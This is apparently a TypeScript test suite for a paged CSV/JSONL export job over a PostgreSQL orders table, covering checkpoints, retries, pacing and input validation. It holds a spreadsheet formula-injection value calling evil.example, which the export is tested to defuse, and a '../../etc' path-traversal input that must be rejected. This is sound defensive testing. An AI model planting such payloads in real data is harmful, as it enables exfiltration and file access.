import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import type { DataSource } from 'typeorm';
import type { JobSettled } from '../declare/run-args';
import { t } from '../schema/t';
import { frozenClock } from '../testing/frozen-clock';
import { runJobs, type JobsHarness } from '../testing/run-jobs';
import { testDatabaseUrl } from '../../../../test/test-env';
import { ExportOrder, ordersDataSource, seedOrders } from '../../test/export-orders';
import type { ExportDefinition, ExportResult } from './export-definition';
import { exportRows } from './export-rows';
import type { ExportSink } from './export-sink';
import { filesystemExportSink } from './filesystem-sink';

const INPUT = t.object({ orgId: t.string, exportId: t.string });
type Input = { orgId: string; exportId: string };
type Columns = 'id' | 'customer' | 'cents' | 'note';
const COLUMNS: readonly Columns[] = ['id', 'customer', 'cents', 'note'];

let db: { data: DataSource; drop(): Promise<void> };
let root: string;
let h: JobsHarness | undefined;

beforeAll(async () => {
  db = await ordersDataSource(testDatabaseUrl());
});
beforeEach(async () => {
  root = await mkdtemp(join(tmpdir(), 'export-spec-'));
});
afterEach(async () => {
  await h?.close();
  h = undefined;
  await rm(root, { recursive: true, force: true });
});
afterAll(async () => {
  await db?.drop();
});

const clock = frozenClock(Date.UTC(2026, 5, 1));
const turn = async (): Promise<void> => {
  await new Promise((r) => setTimeout(r, 2));
  await h?.advance(100);
};
async function until(what: string, done: () => boolean): Promise<void> {
  for (let i = 0; i < 5_000; i++) {
    if (done()) return;
    await turn();
  }
  throw new Error(`never: ${what}`);
}

let seq = 0;
/** An export of the orders table to `sink` (default the temp dir), counting each part key it writes. */
function declare(
  extra: Partial<ExportDefinition<typeof INPUT, ExportOrder, Columns>> = {},
  sink: ExportSink = filesystemExportSink({ root }),
) {
  const settled: JobSettled<Input, ExportResult>[] = [];
  const writes: string[] = [];
  const handle = exportRows({
    name: `orders.export.${++seq}`,
    input: INPUT,
    tenant: ({ orgId }) => orgId,
    prefix: ({ orgId, exportId }) => `exports/${orgId}/${exportId}`,
    source: () => db.data.getRepository(ExportOrder).createQueryBuilder('o'),
    format: 'csv',
    columns: COLUMNS,
    row: (o) => ({ id: o.id, customer: o.customer, cents: o.cents, note: o.note }),
    sink: {
      write: (key, body, options) => (writes.push(key), sink.write(key, body, options)),
    },
    clock,
    retry: { attempts: 3, backoff: 'fixed', delay: 100, jitter: false },
    onSettled: (s) => void settled.push(s),
    ...extra,
  });
  return { handle, settled, writes };
}

/** Every part of `prefix`, in glob order, concatenated as `cat part-*` would. */
async function catParts(prefix: string): Promise<{ names: string[]; text: string }> {
  const dir = join(root, prefix);
  const names = (await readdir(dir)).filter((n) => n.startsWith('part-')).sort();
  const texts = await Promise.all(names.map((n) => readFile(join(dir, n), 'utf8')));
  return { names, text: texts.join('') };
}

/** What the source holds, as the CSV cells the export must write (a formula lead defused, a negative kept). */
async function expectedCsv(): Promise<Record<Columns, string>[]> {
  const rows = await db.data.getRepository(ExportOrder).find({ order: { id: 'ASC' } });
  const text = (s: string | null) => (s === null ? '' : /^[=+\-@\t\r]/.test(s) ? `'${s}` : s);
  return rows.map((o) => ({
    id: String(o.id),
    customer: text(o.customer),
    cents: String(o.cents),
    note: text(o.note),
  }));
}

const completed = (s: JobSettled<Input, ExportResult> | undefined) =>
  s?.outcome === 'completed' ? s.result : undefined;

describe('exportRows() from a TypeORM source on PostgreSQL', () => {
  it('writes one CSV part per keyset page, the header in part 0 only, and cat part-* parses to the source rows', async () => {
    await seedOrders(db.data, 2_500);
    const x = declare();
    h = await runJobs({ jobs: [x.handle], clock });
    const { id } = await x.handle.enqueue({ orgId: 'org-a', exportId: 'e1' });
    await until('the export to settle', () => x.settled.length > 0);

    const result = completed(x.settled[0]);
    expect(result).toMatchObject({
      prefix: 'exports/org-a/e1',
      format: 'csv',
      parts: 3,
      rows: 2_500,
    });
    const { names, text } = await catParts('exports/org-a/e1');
    expect(names).toEqual(['part-00000.csv', 'part-00001.csv', 'part-00002.csv']);
    expect(text.split('\n').filter((l) => l === 'id,customer,cents,note')).toHaveLength(1);
    expect(text.startsWith('id,customer,cents,note\n')).toBe(true);
    for (const name of names) {
      expect((await readFile(join(root, 'exports/org-a/e1', name), 'utf8')).endsWith('\n')).toBe(
        true,
      );
    }
    const parsed = parse(text, { columns: true }) as Record<string, string>[];
    expect(parsed).toEqual(await expectedCsv());
    expect(result?.bytes).toBe(Buffer.byteLength(text));

    // the cell a spreadsheet would evaluate is text; a negative amount stays a number
    expect(parsed[6]).toMatchObject({
      id: '7',
      customer: `'=HYPERLINK("http://evil.example/?7","click")`,
    });
    expect(parsed[4]).toMatchObject({ cents: '-5' });
    expect(parsed[2]?.note).toBe("'+note 3");

    const manifest = JSON.parse(
      await readFile(join(root, 'exports/org-a/e1/manifest.json'), 'utf8'),
    );
    expect(manifest).toEqual({
      version: 1,
      name: x.handle.name,
      format: 'csv',
      columns: COLUMNS,
      parts: 3,
      rows: 2_500,
      bytes: result?.bytes,
      header: true,
      completedAtMs: expect.any(Number),
    });
    // each step checkpoints the cursor and counters, never a row
    const steps = await h.driver.steps.load(id);
    expect(steps.map((s) => s.name)).toEqual(['page:0', 'page:1', 'page:2', 'manifest']);
    expect(steps[0]?.output).toEqual({
      cursor: [1_000],
      rows: 1_000,
      parts: 1,
      bytes: expect.any(Number),
      done: false,
    });
    expect(steps[2]?.output).toMatchObject({ cursor: [2_500], rows: 2_500, parts: 3, done: true });
  });

  it('writes JSON lines in column order, no header; the empty page after a full one is an empty last part', async () => {
    await seedOrders(db.data, 2_000);
    const x = declare({ format: 'jsonl' });
    h = await runJobs({ jobs: [x.handle], clock });
    await x.handle.enqueue({ orgId: 'org-a', exportId: 'j1' });
    await until('the export to settle', () => x.settled.length > 0);

    expect(completed(x.settled[0])).toMatchObject({ parts: 3, rows: 2_000 });
    const { names, text } = await catParts('exports/org-a/j1');
    expect(names).toEqual(['part-00000.jsonl', 'part-00001.jsonl', 'part-00002.jsonl']);
    expect(await readFile(join(root, 'exports/org-a/j1/part-00002.jsonl'), 'utf8')).toBe('');
    const lines = text.split('\n');
    expect(lines.pop()).toBe('');
    const rows = await db.data.getRepository(ExportOrder).find({ order: { id: 'ASC' } });
    expect(lines.map((l) => JSON.parse(l))).toEqual(
      rows.map((o) => ({ id: o.id, customer: o.customer, cents: o.cents, note: o.note })),
    );
    expect(Object.keys(JSON.parse(lines[0]!))).toEqual(COLUMNS);
    expect(x.writes.filter((k) => k.includes('part-'))).toHaveLength(3);
  });

  it('a page whose checkpoint never landed runs again and rewrites its own part: no duplicate row', async () => {
    await seedOrders(db.data, 2_500);
    const fs = filesystemExportSink({ root });
    let failed = false;
    const flaky: ExportSink = {
      async write(key, body, options) {
        await fs.write(key, body, options);
        // the part is written, then the step fails before its checkpoint is stored
        if (key.endsWith('part-00001.csv') && !failed) {
          failed = true;
          throw new Error('lost after the write');
        }
      },
    };
    const x = declare({}, flaky);
    h = await runJobs({ jobs: [x.handle], clock });
    await x.handle.enqueue({ orgId: 'org-b', exportId: 'r1' });
    await until('the export to settle', () => x.settled.length > 0);

    expect(completed(x.settled[0])).toMatchObject({ parts: 3, rows: 2_500 });
    expect(x.writes.filter((k) => k.endsWith('part-00000.csv'))).toHaveLength(1);
    expect(x.writes.filter((k) => k.endsWith('part-00001.csv'))).toHaveLength(2);
    const { names, text } = await catParts('exports/org-b/r1');
    expect(names).toHaveLength(3);
    expect(parse(text, { columns: true })).toEqual(await expectedCsv());
  });

  it('rows deleted before a page reruns leave no stale part: the shorter rerun overwrites it', async () => {
    await seedOrders(db.data, 2_000);
    const fs = filesystemExportSink({ root });
    let failed = false;
    const flaky: ExportSink = {
      async write(key, body, options) {
        await fs.write(key, body, options);
        if (key.endsWith('part-00001.csv') && !failed) {
          failed = true;
          // the page's rows leave the source before the step that wrote them reruns
          await db.data.query('delete from export_orders where id > 1000');
          throw new Error('lost after the write');
        }
      },
    };
    const x = declare({}, flaky);
    h = await runJobs({ jobs: [x.handle], clock });
    await x.handle.enqueue({ orgId: 'org-b', exportId: 'shrunk' });
    await until('the export to settle', () => x.settled.length > 0);

    expect(completed(x.settled[0])).toMatchObject({ parts: 2, rows: 1_000 });
    const { names, text } = await catParts('exports/org-b/shrunk');
    expect(names).toEqual(['part-00000.csv', 'part-00001.csv']);
    expect(parse(text, { columns: true })).toEqual(await expectedCsv());
  });

  it('paces pages at the declared rate on the export clock', async () => {
    await seedOrders(db.data, 500);
    // source() is called as each page starts (the throttle measures from there)
    const started: number[] = [];
    const x = declare({
      batch: 100,
      rate: 2,
      source: () => (
        started.push(clock.now()),
        db.data.getRepository(ExportOrder).createQueryBuilder('o')
      ),
    });
    h = await runJobs({ jobs: [x.handle], clock });
    await x.handle.enqueue({ orgId: 'org-a', exportId: 'paced' });
    await until('the export to settle', () => x.settled.length > 0);
    // five full parts, then the empty one that ends the export
    expect(completed(x.settled[0])).toMatchObject({ parts: 6, rows: 500 });
    expect(started).toHaveLength(6);
    const gaps = started.slice(1).map((t, i) => t - started[i]!);
    // each page starts at least 1 / rate = 500 ms after the one before
    expect(gaps.every((g) => g >= 500)).toBe(true);
  });

  it('an empty source writes part 0 with the header alone', async () => {
    await seedOrders(db.data, 0);
    const x = declare();
    h = await runJobs({ jobs: [x.handle], clock });
    await x.handle.enqueue({ orgId: 'org-a', exportId: 'empty' });
    await until('the export to settle', () => x.settled.length > 0);
    expect(completed(x.settled[0])).toMatchObject({ parts: 1, rows: 0 });
    expect((await catParts('exports/org-a/empty')).text).toBe('id,customer,cents,note\n');
  });

  it('a row() key outside columns is X_EXPORT_ROW_INVALID, dead on its first attempt', async () => {
    await seedOrders(db.data, 10);
    const x = declare({
      row: (o) => ({ ...o }) as unknown as Record<Columns, string>,
      columns: ['id', 'customer', 'cents'],
    });
    h = await runJobs({ jobs: [x.handle], clock });
    const { id } = await x.handle.enqueue({ orgId: 'org-a', exportId: 'bad-row' });
    await until('the export to settle', () => x.settled.length > 0);
    expect(x.settled[0]).toMatchObject({ outcome: 'dead-lettered', code: 'X_EXPORT_ROW_INVALID' });
    expect(x.settled[0]).toMatchObject({ error: expect.stringContaining('key "note"') });
    expect((await h.driver.get(id))?.attempt).toBe(1);
    expect(x.writes).toEqual([]);
  });

  it('a page past maxPartBytes is X_EXPORT_PART_TOO_LARGE naming the batch to lower', async () => {
    await seedOrders(db.data, 1_000);
    const x = declare({ batch: 500, maxPartBytes: 4_096 });
    h = await runJobs({ jobs: [x.handle], clock });
    await x.handle.enqueue({ orgId: 'org-a', exportId: 'big' });
    await until('the export to settle', () => x.settled.length > 0);
    const settled = x.settled[0];
    expect(settled).toMatchObject({ outcome: 'dead-lettered', code: 'X_EXPORT_PART_TOO_LARGE' });
    const suggested = /Lower batch from 500 to (\d+)/.exec(
      settled?.outcome === 'completed' ? '' : settled!.error,
    );
    expect(Number(suggested?.[1])).toBeGreaterThan(0);
    expect(Number(suggested?.[1])).toBeLessThan(500);
    expect(x.writes).toEqual([]);
  });

  it("a source that is no query reads as the export's failure, not a backfill's", async () => {
    const x = declare({ source: () => null as never, retry: { attempts: 1 } });
    h = await runJobs({ jobs: [x.handle], clock });
    await x.handle.enqueue({ orgId: 'org-a', exportId: 'no-source' });
    await until('the export to settle', () => x.settled.length > 0);
    expect(x.settled[0]).toMatchObject({
      outcome: 'dead-lettered',
      code: 'X_INVARIANT',
      error: expect.stringContaining(`export "${x.handle.name}": source() answered null`),
    });
  });

  it('refuses a bad declaration at the declaration, and a prefix that could escape at the enqueue', async () => {
    const base = declare().handle;
    expect(base.name).toMatch(/^orders\.export\./);
    expect(() => declare({ format: 'xml' as 'csv' })).toThrow(
      expect.objectContaining({ code: 'X_JOB_DECLARATION_INVALID' }),
    );
    expect(() => declare({ columns: ['id', 'id'] })).toThrow(
      expect.objectContaining({ code: 'X_JOB_DECLARATION_INVALID' }),
    );
    expect(() => declare({ rate: 0 })).toThrow(
      expect.objectContaining({ code: 'X_JOB_DECLARATION_INVALID' }),
    );
    expect(() => declare({ batch: 100_001 })).toThrow(
      expect.objectContaining({ code: 'X_JOB_DECLARATION_INVALID' }),
    );
    expect(() => declare({ sink: {} as ExportSink })).toThrow(
      expect.objectContaining({ code: 'X_JOB_DECLARATION_INVALID' }),
    );

    const x = declare();
    h = await runJobs({ jobs: [x.handle], clock });
    for (const exportId of ['../../etc', '', 'a//b']) {
      await expect(x.handle.enqueue({ orgId: 'org-a', exportId })).rejects.toMatchObject({
        code: 'X_JOB_INPUT_INVALID',
      });
    }
  });
});
